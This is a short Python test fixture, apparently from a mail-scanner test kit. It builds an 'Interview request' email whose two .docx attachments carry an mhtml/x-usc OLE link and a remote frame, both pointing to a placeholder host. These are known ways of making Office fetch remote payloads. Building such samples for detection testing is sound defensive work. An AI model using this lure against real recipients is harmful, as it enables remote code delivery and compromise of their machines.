"""A letter with an object that a web server keeps, and a page that is a frame of it."""
from kit import *


def make():
    return (Mail("Interview request", "editor@example.net").text("Please answer the questions in the document.\n")
            .attach("questions.docx", office.docx_ole("mhtml:http://files.example.invalid/q.html!x-usc:http://files.example.invalid/q.html"))
            .attach("frame.docx", office.docx_ole("https://files.example.invalid/f.rtf", kind="frame")).bytes())
